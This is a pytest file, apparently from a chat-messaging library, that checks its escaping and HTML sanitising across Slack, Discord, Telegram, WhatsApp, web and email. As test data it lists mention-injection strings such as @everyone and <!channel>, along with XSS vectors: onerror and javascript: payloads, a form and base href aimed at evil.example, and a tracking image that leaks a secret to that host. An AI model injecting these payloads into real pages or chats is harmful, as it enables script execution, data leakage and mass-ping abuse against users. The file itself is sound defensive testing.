"""Nobody is pinged, nothing runs: mention injection and scripts in every dialect."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import get_args
from urllib.parse import urlsplit

import pytest

from channels.contract import Choice, Dialect, Link
from channels.kinds import CAPABILITIES
from channels.text.escape import escape, literal
from channels.text.preview import preview
from channels.text.render import render
from channels.text.sanitise import TAGS, sanitise

DIALECTS: tuple[Dialect, ...] = get_args(Dialect)

MENTIONS = """
<!channel>
<!here>
<!everyone>
<!here|here>
<!subteam^S012AB>
<!subteam^S012AB|@team>
<!date^1392734382^{date}^https://evil.example/|now>
<@U012ABCDEF>
<@W012ABCDEF|ann>
<#C012ABCDEF>
<#C012ABCDEF|general>
<https://evil.example|your bank>
<mailto:a@evil.example|us>
&lt;!channel&gt;
&#60;!channel&#62;
&amp;lt;!channel&amp;gt;
\\<!channel>
<!**channel**>
`<!channel>`
[<!channel>](https://shop.example)
[a](https://shop.example/|<!channel>)
@channel
@here
@everyone
@EVERYONE
x@everyone
@\\everyone
\\@everyone
&#64;everyone
@&#101;veryone
@**everyone**
**@everyone**
`@everyone`
@![](x)everyone
@[every](javascript:x)one
@[everyone](https://shop.example)
https://shop.example/@everyone
[a](https://shop.example/@everyone)
@all
<@123456789012345678>
<@!123456789012345678>
<@&123456789012345678>
<#123456789012345678>
</help:123456789012345678>
<:smile:123456789012345678>
<a:smile:123456789012345678>
<t:1618953630:R>
<id:customize>
![<@123456789012345678>](x)
<b>bold</b>
<a href="tg://user?id=1">x</a>
<tg-spoiler>x</tg-spoiler>
</pre><b>x
</code></pre>
&lt;b&gt;x&lt;/b&gt;
@durov_official
text @fernhill_bot more
[x](tg://user?id=1)
<blockquote expandable>x
*bold* _it_ ~gone~ `code`
***x*** __y__ ~~z~~
```fence``` ||spoiler||
> quoted
# heading
""".strip().split("\n")
BLOCKS = ["```\n{}\n```", "- {}\n- x", "> {}", "|a|\n|-|\n|{}|", "# {}"]


def slack_is_active(text: str) -> bool:
    links = re.compile(r"<(?:https?://|mailto:)[^<>|\s]+(?:\|[^<>|]*)?>")
    left = links.sub("", text)
    mention = re.search(r"@(everyone|here)|(?<!\w)@channel", left, re.IGNORECASE)
    return bool(mention or re.search(r"<(?!\u200b)", left))


def discord_is_active(text: str) -> bool:
    mention = re.search(r"@(everyone|here)|<(@|#|a?:|/|t:|id:)", text, re.IGNORECASE)
    return bool(mention)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def tags(html: str) -> _Tags:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser


def telegram_is_active(text: str) -> bool:
    parsed = tags(text)
    ours = {"b", "i", "s", "code", "pre", "a", "blockquote"}
    for tag, attributes in parsed.found:
        address = attributes.get("href") or ""
        if tag not in ours or (tag == "a" and urlsplit(address).scheme not in {"http", "https"}):
            return True
    outside = re.sub(r"<(code|pre|a)\b.*?</\1>", "", text, flags=re.DOTALL)
    return bool(re.search(r"(?<!\w)@\w", re.sub(r"<[^>]*>", "", outside)))


ACTIVE = {"slack": slack_is_active, "discord": discord_is_active, "telegram": telegram_is_active}


def test_the_checkers_can_fail() -> None:
    assert slack_is_active("<!channel>")
    assert slack_is_active("<@U1> x")
    assert discord_is_active("hi @everyone")
    assert discord_is_active("<@1>")
    assert telegram_is_active('<a href="tg://user?id=1">x</a>')
    assert telegram_is_active("hi @durov")


@pytest.mark.parametrize("hostile", MENTIONS)
@pytest.mark.parametrize("dialect", list(ACTIVE))
def test_rendered_text_mentions_nobody(dialect: Dialect, hostile: str) -> None:
    is_active = ACTIVE[dialect]
    for frame in ("{}", *BLOCKS):
        for part in render(frame.replace("{}", hostile), CAPABILITIES[dialect]):
            assert not is_active(part.text), part.text
            assert dialect == "telegram" or not is_active(part.plain), part.plain


@pytest.mark.parametrize("hostile", MENTIONS)
@pytest.mark.parametrize("dialect", list(ACTIVE))
def test_sources_and_choices_mention_nobody(dialect: Dialect, hostile: str) -> None:
    links = (Link(hostile, "https://shop.example/@everyone", ""), Link(hostile, None, ""))
    choices = tuple(Choice(str(n), hostile) for n in range(26))
    for part in render("Hello", CAPABILITIES[dialect], choices, links):
        assert not ACTIVE[dialect](part.text), part.text


@pytest.mark.parametrize("hostile", MENTIONS)
@pytest.mark.parametrize("dialect", list(ACTIVE))
def test_escaped_text_mentions_nobody(dialect: Dialect, hostile: str) -> None:
    assert not ACTIVE[dialect](escape(hostile, dialect))
    assert "<" not in escape(hostile, "telegram") + escape(hostile, "slack")


@pytest.mark.parametrize("hostile", MENTIONS)
@pytest.mark.parametrize("dialect", ["whatsapp", "slack", "discord", "api"])
def test_escaped_text_formats_nothing(dialect: Dialect, hostile: str) -> None:
    shown = tags(preview(escape(hostile, dialect), dialect)).found
    assert [tag for tag, _ in shown if tag not in {"br", "a"}] == []


@pytest.mark.parametrize("hostile", [line for line in MENTIONS if "https" not in line])
def test_literal_markdown_is_shown_as_it_is(hostile: str) -> None:
    (part,) = render(literal(hostile), CAPABILITIES["web"])
    assert part.text == hostile
    assert tags(part.html or "").found == [("p", {})]


def test_literal_keeps_lines_and_paragraphs() -> None:
    (part,) = render(literal("1. one\n- two\n\n    # three"), CAPABILITIES["web"])
    assert part.text == "1. one\n- two\n\n# three"


@pytest.mark.parametrize(
    ("dialect", "text", "expected"),
    [
        ("slack", "a & <b>", "a &amp; &lt;b&gt;"),
        ("telegram", "a & <b> me@shop.example", "a &amp; &lt;b&gt; me@shop.example"),
        ("discord", "*a* https://shop.example/x_y", r"\*a\* https://shop.example/x_y"),
        (
            "whatsapp",
            "snake_case 2 * 3 https://shop.example/_x_",
            "snake_case 2 * 3 https://shop.example/_x_",
        ),
        (
            "api",
            "*a* AT&T &lt; @all https://shop.example/x_y",
            r"\*a\* AT&T \&lt; @all https://shop.example/x_y",
        ),
        ("web", "<b>\x00", "<b>"),
        ("email", "a\U000e0041b", "ab"),
    ],
)
def test_escape_changes_no_more_than_it_must(dialect: Dialect, text: str, expected: str) -> None:
    assert escape(text, dialect) == expected


SCRIPTS = """
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<iframe src="javascript:alert(1)"></iframe>
<a href="javascript:alert(1)">x</a>
<a href="jAvAsCrIpT:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="//evil.example">x</a>
<a href="https://shop.example" onclick="alert(1)" style="x" id="y" name="z">x</a>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<style>@import 'https://evil.example'</style>
<form action=https://evil.example><input name=x></form>
<ol start="1" onclick=alert(1)><li>x</ol>
<template><img src=x onerror=alert(1)></template>
<base href=https://evil.example>
<meta http-equiv=refresh content="0;url=https://evil.example">
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](java&#115;cript:alert(1))
[x](java%0ascript:alert(1))
[x](vbscript:msgbox)
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](https://shop.example"onmouseover="alert(1))
[x](<https://shop.example" onmouseover="alert(1)>)
[x](https://shop.example 'title" onclick="alert(1)')
![x](javascript:alert(1))
![x](https://evil.example/track.png?q=secret)
![x][r]\\n\\n[r]: https://evil.example/track.png
<javascript:alert(1)>
<https://shop.example/"onclick=alert(1)>
`<img src=x onerror=alert(1)>`
https://shop.example/"onmouseover=alert(1)
*<b onclick=alert(1)>x</b>*
[<img src=x onerror=alert(1)>](https://shop.example)
""".strip().split("\n")
ATTRIBUTES = {"a": {"href", "rel", "target"}, "ol": {"start"}}


def assert_safe(html: str) -> None:
    for tag, attributes in tags(html).found:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set())
        if tag == "a" and "href" in attributes:
            assert urlsplit(attributes["href"] or "").scheme in {"http", "https", "mailto"}
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"


@pytest.mark.parametrize("vector", [vector.replace("\\n", "\n") for vector in SCRIPTS])
def test_html_holds_only_what_is_allowed(vector: str) -> None:
    for frame in ("{}", *BLOCKS):
        for kind in ("web", "email"):
            for part in render(frame.replace("{}", vector), CAPABILITIES[kind]):
                assert part.html is not None
                assert_safe(part.html)
    assert_safe(sanitise(vector))


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("vector", [*SCRIPTS, *MENTIONS])
def test_previews_hold_only_what_is_allowed(dialect: Dialect, vector: str) -> None:
    assert_safe(preview(vector, dialect))
    for part in render(vector, CAPABILITIES[dialect]):
        assert_safe(preview(part.text, dialect))


LINK = ' target="_blank" rel="noopener noreferrer nofollow">'


@pytest.mark.parametrize(
    ("dialect", "text", "expected"),
    [
        (
            "whatsapp",
            "*a* _b_ ~c~ `d`",
            "<strong>a</strong> <em>b</em> <del>c</del> <code>d</code>",
        ),
        ("whatsapp", "2 * 3 * 4 snake_case_x", "2 * 3 * 4 snake_case_x"),
        (
            "whatsapp",
            "see https://shop.example/x_y_z.",
            f'see <a href="https://shop.example/x_y_z"{LINK}https://shop.example/x_y_z</a>.',
        ),
        ("whatsapp", "a\n> q\n> r\nb", "a<br><blockquote>q<br>r</blockquote>b"),
        (
            "slack",
            "*a &amp; b* <https://shop.example|x &lt;y&gt;>",
            f'<strong>a &amp; b</strong> <a href="https://shop.example"{LINK}x &lt;y&gt;</a>',
        ),
        ("slack", "```\na &lt; b\n```", "<pre><code>a &lt; b</code></pre>"),
        (
            "discord",
            r"**a** *b* ~~c~~ \*d\* **x *y***",
            "<strong>a</strong> <em>b</em> <del>c</del> *d* <strong>x <em>y</em></strong>",
        ),
        ("discord", "[x](https://shop.example)", f'<a href="https://shop.example"{LINK}x</a>'),
        ("telegram", "<b>a</b>\n<pre>b\nc</pre>", "<b>a</b><br><pre>b\nc</pre>"),
        ("email", "a <b>\nc", "a &lt;b&gt;<br>c"),
    ],
)
def test_previews_show_what_the_platform_would(dialect: Dialect, text: str, expected: str) -> None:
    assert preview(text, dialect) == expected
